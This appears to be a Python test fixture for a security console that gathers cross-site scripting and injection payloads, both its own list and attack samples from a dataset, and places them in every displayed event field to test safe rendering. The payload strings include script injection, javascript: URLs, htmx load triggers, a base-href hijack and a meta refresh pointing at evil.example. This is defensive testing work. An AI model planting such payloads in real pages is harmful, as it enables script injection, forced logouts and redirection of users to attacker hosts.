"""Texts of attackers, in every field that the console shows."""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any
from urllib.parse import unquote_plus

from tests.console.sending import event

SAMPLE = Path(__file__).parents[1] / "detection" / "sample.jsonl.gz"

OWN = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "'\"><svg/onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{7*7}}{% raw %}",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><a href="javascript:alert(1)" autofocus onfocus=alert(1)>',
    "--><script>alert(1)</script>",
    "</pre></dd></dl></main><form action=//evil.example><input autofocus onfocus=alert(1)>",
    '" hx-get="//evil.example" hx-trigger="load" x="',
    "' hx-on:htmx:load='window.pwned=1' x='",
    '<div hx-get="/logout" hx-trigger="load"></div>',
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example)}</style>",
    "\u202e\u2066<b>\u0000",
)
"""Written against this console's own templates."""

FIELDS = (
    "event_type", "ip_address", "country", "user_agent", "action_taken", "reason", "endpoint",
    "method", "decorator_type", "rule_type", "pattern_matched", "handler_name",
)  # fmt: skip


def payloads(kind: str = "") -> list[str]:
    """Texts of attacks: those against us, then the sample's, as their apps would read them."""
    found = list(OWN)
    with gzip.open(SAMPLE, "rt") as lines:
        for line in lines:
            request = json.loads(line)
            if request["label"] != "attack":
                continue
            for part in (request["path"], request["query"], request.get("body") or ""):
                text = unquote_plus(part.partition("=")[2] or part)
                if len(text) > 3 and (kind != "xss" or "<" in text or "javascript" in text):
                    found.append(text[:500])
    return list(dict.fromkeys(found))


def with_payloads(texts: list[str]) -> list[dict[str, Any]]:
    """Events in which every field is an attack; each text is in each field of some event."""
    made = []
    for number in range(len(texts)):
        written = [texts[(number + shift) % len(texts)] for shift in range(len(FIELDS) + 8)]
        fields: dict[str, Any] = dict(zip(FIELDS, written, strict=False))
        if number % 2:
            # The columns that pages group and link by, and an action that is counted.
            fields.update(event_type="penetration_attempt", action_taken="request_blocked")
        rest = written[len(FIELDS) :]
        fields["metadata"] = {
            "check": rest[0],
            "threat_categories": [rest[1]],
            rest[2]: rest[3],
            "findings": [
                {
                    "category": rest[4],
                    "location": ("query", "json", rest[5])[number % 3],
                    "name": rest[5],
                    "value": rest[6],
                    "view": rest[7],
                    "indicators": rest[0],
                    "score": 4.8,
                    "threshold": 1.0,
                }
            ],
        }
        made.append(event(**fields))
    return made
